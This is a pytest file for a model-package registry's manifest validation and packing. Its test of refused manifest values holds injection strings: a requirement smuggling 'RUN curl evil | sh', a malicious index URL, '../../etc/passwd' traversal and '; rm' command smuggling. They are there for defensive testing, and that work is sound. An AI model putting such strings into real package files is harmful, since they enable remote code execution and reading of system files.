"""The package format: bundled examples and `aid init` starters are valid; packing is reproducible."""

import subprocess
import sys
from pathlib import Path

import pytest

from registry.manifest import PackageInvalid, parse_manifest
from registry.package import check_example_outputs, pack, validate_package
from tests.hubserver import REPO

AID = str(Path(sys.executable).parent / "aid")


@pytest.mark.parametrize("name", ["iris-onnx", "digits-torch", "wine-python"])
def test_bundled_examples_are_valid(name):
    package = validate_package(REPO / "examples" / name)
    assert package.manifest.name == name
    assert package.examples and all(e["outputs"]["label"] for e in package.examples)


def test_onnx_schema_comes_from_the_graph():
    package = validate_package(REPO / "examples" / "iris-onnx")
    assert package.inputs == {"features": {"dtype": "float32", "shape": [-1, 4]}}
    assert package.outputs == {
        "label": {"dtype": "int64", "shape": [-1]},
        "probabilities": {"dtype": "float32", "shape": [-1, 3]},
    }


@pytest.mark.parametrize("framework", ["onnx", "torch", "sklearn", "python"])
def test_aid_init_writes_a_valid_package(tmp_path, framework):
    result = subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", framework], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert "Next: edit aid.yaml and README.md" in result.stdout
    package = validate_package(tmp_path / "pkg")
    assert (package.manifest.name, package.manifest.framework) == ("pkg", framework)


def test_aid_init_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "keep.txt").write_text("mine")
    result = subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "onnx"], capture_output=True, text=True
    )
    assert result.returncode == 2
    assert "is not empty; choose a new folder" in result.stderr


def test_pack_is_reproducible_and_skips_caches(tmp_path):
    subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "python"], check=True, capture_output=True
    )
    first = pack(tmp_path / "pkg")
    (tmp_path / "pkg" / "__pycache__").mkdir()
    (tmp_path / "pkg" / "__pycache__" / "x.pyc").write_bytes(b"junk")
    assert pack(tmp_path / "pkg") == first


def test_pack_refuses_symlinks(tmp_path):
    subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "python"], check=True, capture_output=True
    )
    (tmp_path / "pkg" / "secret").symlink_to("/etc/passwd")
    with pytest.raises(PackageInvalid, match="secret: is a symbolic link"):
        pack(tmp_path / "pkg")


@pytest.mark.parametrize(
    "field, value, problem",
    [
        (
            "requirements",
            ["numpy\nRUN curl evil | sh"],
            "requirements[0]: 'numpy\\nRUN curl evil | sh' is not a plain requirement",
        ),
        ("requirements", ["numpy; os_name=='posix'"], "is not a plain requirement"),
        ("requirements", ["--index-url=http://evil"], "is not a plain requirement"),
        ("python", "3.11\nRUN x", "python: '3.11\\nRUN x' is not valid"),
        (
            "entrypoint",
            "predict.py:Model; import os",
            "entrypoint: 'predict.py:Model; import os' is not valid",
        ),
        (
            "artifact",
            "../../etc/passwd",
            "artifact: '../../etc/passwd' must be a relative path inside the package",
        ),
        ("name", "x\ny", "name: 'x\\ny' is not valid"),
        ("resources", {"gpu": "all; rm"}, "resources.gpu: 'all; rm' must be 0, a GPU count, or 'optional'"),
    ],
)
def test_hostile_manifest_values_are_refused(field, value, problem):
    data = {"name": "ok", "version": "1.0.0", "task": "t", "framework": "python", "entrypoint": "p.py:M",
            "inputs": {"x": {"dtype": "float32", "shape": [-1]}}, field: value}  # fmt: skip
    with pytest.raises(PackageInvalid) as e:
        parse_manifest(data)
    assert any(problem in str(p) for p in e.value.problems), e.value.problems


@pytest.mark.parametrize(
    "want, got, same",
    [
        ([[2.0, 4.0]], [[2.0000000000000004, 4.000000000000001]], True),
        ([[2.0, 4.0]], [[2.1, 4.0]], False),
        ([0, 1], [0, 1], True),
        ([0, 1], [0, 2], False),
        ([0], [0.0], False),
        (["setosa"], ["setosa"], True),
        ([[1.0]], [[1.0, 2.0]], False),
        ([True], [1], False),
    ],
)
def test_example_outputs_compare_floats_with_tolerance_and_the_rest_exactly(want, got, same):
    assert (check_example_outputs({"outputs": {"y": want}}, {"y": got}) == []) is same


@pytest.mark.parametrize("field", ["tags", "requirements"])
def test_a_trailing_newline_cannot_slip_past_the_patterns(field):
    data = {"name": "ok", "version": "1.0.0", "task": "t", "framework": "python", "entrypoint": "p.py:M",
            "inputs": {"x\n": {"dtype": "float32", "shape": [-1]}}, field: ["numpy\n"]}  # fmt: skip
    with pytest.raises(PackageInvalid) as e:
        parse_manifest(data)
    expected = {"inputs.x\n", "tags[0]"} if field == "tags" else {"inputs.x\n"}  # a requirement is stripped
    assert {p.path for p in e.value.problems} == expected
